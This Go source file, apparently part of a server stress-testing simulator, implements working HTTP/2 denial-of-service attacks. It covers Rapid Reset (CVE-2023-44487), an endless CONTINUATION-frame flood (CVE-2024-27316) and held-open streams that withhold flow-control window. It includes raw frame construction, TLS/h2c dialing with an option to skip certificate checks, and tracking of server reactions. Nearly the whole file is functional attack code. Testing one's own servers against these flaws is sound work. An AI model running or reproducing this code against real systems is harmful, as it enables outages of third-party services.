package attack

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/rempart/rempart/internal/siege/sim"
)

// ErrGoAway is wrapped by the error recorded when the server answered an h2
// attack with GOAWAY.
var ErrGoAway = errors.New("server sent GOAWAY")

// Bounds of the h2 attacks.
const (
	maxH2Streams = 1 << 20 // streams per connection
	maxH2Frames  = 1 << 22 // CONTINUATION frames per connection
	maxH2Read    = 1 << 24 // frames read from a server per connection
)

// h2Flood is the HTTP/2 attack family, one connection per client: h2c with
// prior knowledge on http:// targets, TLS with ALPN h2 on https:// ones.
//
// Params:
//   - mode: rapid-reset (default) — HEADERS then RST_STREAM(CANCEL) at
//     once, streams times (CVE-2023-44487); continuation — one HEADERS
//     without END_HEADERS, then frames CONTINUATION frames of junk header
//     fields, never ending the block (CVE-2024-27316 and kin); streams —
//     open streams concurrent GETs and hold them, never granting flow
//     control window.
//   - streams: streams per connection (rapid-reset 1000, streams 100); each
//     takes one unit of the budget.
//   - frames: CONTINUATION frames per connection (10000).
//   - frame_size: bytes of junk per CONTINUATION frame (1024, at most 16384).
//   - interval: pause between frames or pairs ("0s": as fast as possible).
//   - settle: how long rapid-reset waits after its last pair to see how
//     the server reacted ("1s").
//   - path, user_agent: the request (/live/master.m3u8, a desktop Chrome).
//   - insecure: skip TLS verification on https:// targets (false).
//
// Each connection is recorded once when it ends (latency: how long it
// lived; bytes: DATA received). err is nil when the server did not react,
// else it wraps ErrGoAway or ErrServerClosed and counts the frames sent.
type h2Flood struct{}

// Run attacks over one connection.
func (h2Flood) Run(ctx context.Context, env *sim.Env, c sim.Client) {
	p := params(env, c)
	start := intended(env, c)
	t, err := newTarget(env, p, "h2")
	if err != nil {
		env.Rec.Request(c.Pop, sim.KindAttack, start, 0, 0, 0, err)
		return
	}
	a, err := newH2Attack(p, t)
	if err != nil {
		env.Rec.Request(c.Pop, sim.KindAttack, start, 0, 0, 0, err)
		return
	}
	if ctx.Err() != nil || !take(env) { // the connection's unit; streams take their own
		return
	}
	h, err := dialH2(ctx, env, c, t)
	if err != nil {
		if ctx.Err() == nil {
			env.Rec.Request(c.Pop, sim.KindAttack, start, now(env).Sub(start), 0, 0, err)
		}
		return
	}
	env.Rec.Conn(c.Pop, 1)
	stop := context.AfterFunc(ctx, func() { h.raw.Close() }) // unblock a stuck write
	defer stop()
	a.run(ctx, env, h)
	err = h.close(ctx, a)
	env.Rec.Conn(c.Pop, -1)
	env.Rec.Request(c.Pop, sim.KindAttack, start, now(env).Sub(start), 0, h.dataRecv.Load(), err)
}

// h2Attack is one population's h2 settings.
type h2Attack struct {
	mode      string
	streams   int
	frames    int
	frameSize int
	every     time.Duration
	settle    time.Duration
	block     []byte // the request's header block
}

func newH2Attack(p sim.Params, t *target) (*h2Attack, error) {
	a := &h2Attack{
		mode:      p.String("mode", "rapid-reset"),
		frames:    min(max(p.Int("frames", 10_000), 0), maxH2Frames),
		frameSize: min(max(p.Int("frame_size", 1024), 32), maxFrameLen),
		every:     p.Duration("interval", 0),
		settle:    p.Duration("settle", time.Second),
	}
	def := 1000
	switch a.mode {
	case "rapid-reset", "continuation":
	case "streams":
		def = 100
	default:
		return nil, fmt.Errorf("h2-flood: mode %q: want rapid-reset, continuation or streams", a.mode)
	}
	a.streams = min(max(p.Int("streams", def), 0), maxH2Streams)
	a.block = appendRequestBlock(nil, t.tls != nil, t.host,
		t.path(p.String("path", defaultHotPath)), p.String("user_agent", defaultFloodUA))
	return a, nil
}

// run sends the attack until it is done, the server reacts or ctx ends.
func (a *h2Attack) run(ctx context.Context, env *sim.Env, h *h2conn) {
	switch a.mode {
	case "rapid-reset":
		a.rapidReset(ctx, env, h)
		h.wait(ctx, a.settle)
	case "continuation":
		a.continuation(ctx, h)
		h.wait(ctx, -1)
	case "streams":
		a.openStreams(ctx, env, h)
		h.wait(ctx, -1)
	}
}

// rapidReset opens and cancels streams, one HEADERS+RST_STREAM per write.
func (a *h2Attack) rapidReset(ctx context.Context, env *sim.Env, h *h2conn) {
	buf := make([]byte, 0, 9+len(a.block)+13)
	for i := range a.streams {
		if h.stopped(ctx) || !take(env) {
			return
		}
		id := uint32(2*i + 1)
		buf = append(appendFrameHeader(buf[:0], len(a.block), frameHeaders, flagEndStream|flagEndHeaders, id), a.block...)
		buf = appendRST(buf, id, codeCancel)
		if h.write(buf) != nil {
			return
		}
		h.sent.headers.Add(1)
		h.sent.rst.Add(1)
		if a.every > 0 && !sleep(ctx, a.every) {
			return
		}
	}
}

// continuation starts one header block and never ends it.
func (a *h2Attack) continuation(ctx context.Context, h *h2conn) {
	buf := appendFrame(nil, frameHeaders, flagEndStream, 1, a.block) // no END_HEADERS
	if h.write(buf) != nil {
		return
	}
	h.sent.headers.Add(1)
	for range a.frames {
		if h.stopped(ctx) {
			return
		}
		buf = appendJunkBlock(appendFrameHeader(buf[:0], 0, frameContinuation, 0, 1), a.frameSize)
		n := len(buf) - 9
		buf[0], buf[1], buf[2] = byte(n>>16), byte(n>>8), byte(n)
		if h.write(buf) != nil {
			return
		}
		h.sent.continuation.Add(1)
		if a.every > 0 && !sleep(ctx, a.every) {
			return
		}
	}
}

// openStreams opens concurrent GET streams and leaves them open.
func (a *h2Attack) openStreams(ctx context.Context, env *sim.Env, h *h2conn) {
	buf := make([]byte, 0, 9+len(a.block))
	for i := range a.streams {
		if h.stopped(ctx) || !take(env) {
			return
		}
		buf = appendFrame(buf[:0], frameHeaders, flagEndStream|flagEndHeaders, uint32(2*i+1), a.block)
		if h.write(buf) != nil {
			return
		}
		h.sent.headers.Add(1)
		if a.every > 0 && !sleep(ctx, a.every) {
			return
		}
	}
}

// h2conn is one attack connection: the attack writes, a reader goroutine
// answers SETTINGS and PING and watches how the server reacts.
type h2conn struct {
	conn, raw net.Conn
	start     time.Time

	wmu  sync.Mutex // guards writes to conn
	werr error      // first write error; guarded by wmu

	sent struct{ headers, rst, continuation, frames atomic.Int64 }

	done       chan struct{} // closed when the reader stops
	readErr    error         // why the reader stopped; set before done closes
	goAway     atomic.Bool
	goAwayCode atomic.Uint32
	goAwayLast atomic.Uint32
	rstRecv    atomic.Int64
	hdrRecv    atomic.Int64
	dataRecv   atomic.Int64
}

// dialH2 connects, speaks the preface and starts the reader.
func dialH2(ctx context.Context, env *sim.Env, c sim.Client, t *target) (*h2conn, error) {
	conn, raw, err := t.dial(ctx, env, c.Source)
	if err != nil {
		return nil, err
	}
	if tc, ok := conn.(*tls.Conn); ok && tc.ConnectionState().NegotiatedProtocol != "h2" {
		raw.Close()
		return nil, errors.New("h2-flood: server did not negotiate h2 over TLS")
	}
	h := &h2conn{conn: conn, raw: raw, start: time.Now(), done: make(chan struct{})}
	// SETTINGS_ENABLE_PUSH = 0: nothing pushed at us.
	hello := appendFrame([]byte(h2Preface), frameSettings, 0, 0, []byte{0, 2, 0, 0, 0, 0})
	if err := h.write(hello); err != nil {
		raw.Close()
		return nil, fmt.Errorf("h2-flood: write preface: %w", err)
	}
	go h.readLoop()
	return h, nil
}

// write sends b whole, counting its frames.
func (h *h2conn) write(b []byte) error {
	h.wmu.Lock()
	defer h.wmu.Unlock()
	if h.werr != nil {
		return h.werr
	}
	if err := h.conn.SetWriteDeadline(time.Now().Add(defaultTimeout)); err != nil {
		h.werr = err
		return err
	}
	if _, err := h.conn.Write(b); err != nil {
		h.werr = err
		return err
	}
	h.sent.frames.Add(int64(countFrames(b)))
	return nil
}

// countFrames counts the frames in b (the preface, if any, is skipped).
func countFrames(b []byte) int {
	if len(b) >= len(h2Preface) && string(b[:len(h2Preface)]) == h2Preface {
		b = b[len(h2Preface):]
	}
	n := 0
	for len(b) >= 9 {
		b = b[min(9+parseFrameHeader(b).length, len(b)):]
		n++
	}
	return n
}

// stopped reports whether the attack should stop: ctx done or server gone.
func (h *h2conn) stopped(ctx context.Context) bool {
	select {
	case <-h.done:
		return true
	default:
		return ctx.Err() != nil || h.goAway.Load()
	}
}

// wait holds the connection for d (forever if negative) or until the
// server ends it or ctx is done.
func (h *h2conn) wait(ctx context.Context, d time.Duration) {
	var timeout <-chan time.Time
	if d >= 0 {
		t := time.NewTimer(d)
		defer t.Stop()
		timeout = t.C
	}
	select {
	case <-ctx.Done():
	case <-h.done:
	case <-timeout:
	}
}

// close ends the connection, waits for the reader and describes how the
// server reacted (nil: it did not).
func (h *h2conn) close(ctx context.Context, a *h2Attack) error {
	h.raw.Close()
	<-h.done
	sent := fmt.Sprintf("%d frames sent (%d HEADERS, %d RST_STREAM, %d CONTINUATION); server sent %d HEADERS, %d RST_STREAM",
		h.sent.frames.Load(), h.sent.headers.Load(), h.sent.rst.Load(), h.sent.continuation.Load(),
		h.hdrRecv.Load(), h.rstRecv.Load())
	held := time.Since(h.start).Round(time.Millisecond)
	switch {
	case h.goAway.Load():
		return fmt.Errorf("h2 %s: %w %s (last stream %d) after %s, %s", a.mode, ErrGoAway,
			codeName(h.goAwayCode.Load()), h.goAwayLast.Load(), held, sent)
	case ctx.Err() != nil:
		return nil
	case h.readErr != nil && !errors.Is(h.readErr, net.ErrClosed):
		return fmt.Errorf("h2 %s: %w after %s (%v), %s", a.mode, ErrServerClosed, held, h.readErr, sent)
	}
	return nil
}

// readLoop reads the server's frames until the connection ends.
func (h *h2conn) readLoop() {
	defer close(h.done)
	br := bufio.NewReaderSize(h.conn, 32<<10)
	var hdr [9]byte
	payload := make([]byte, maxFrameLen)
	for range maxH2Read {
		if _, err := io.ReadFull(br, hdr[:]); err != nil {
			h.readErr = err
			return
		}
		f := parseFrameHeader(hdr[:])
		if f.length > maxFrameLen {
			h.readErr = fmt.Errorf("frame of %d bytes over the %d we allow", f.length, maxFrameLen)
			return
		}
		if _, err := io.ReadFull(br, payload[:f.length]); err != nil {
			h.readErr = err
			return
		}
		h.onFrame(f, payload[:f.length])
	}
	h.readErr = errors.New("frame bound reached")
}

// onFrame reacts to one server frame.
func (h *h2conn) onFrame(f frameHeader, p []byte) {
	switch f.typ {
	case frameSettings:
		if f.flags&flagAck == 0 {
			_ = h.write(appendFrame(nil, frameSettings, flagAck, 0, nil))
		}
	case framePing:
		if f.flags&flagAck == 0 {
			_ = h.write(appendFrame(nil, framePing, flagAck, 0, p))
		}
	case frameGoAway:
		if len(p) >= 8 {
			h.goAwayLast.Store(binary.BigEndian.Uint32(p) & 0x7fffffff)
			h.goAwayCode.Store(binary.BigEndian.Uint32(p[4:]))
		}
		h.goAway.Store(true)
	case frameRSTStream:
		h.rstRecv.Add(1)
	case frameHeaders:
		h.hdrRecv.Add(1)
	case frameData:
		h.dataRecv.Add(int64(f.length))
	}
}
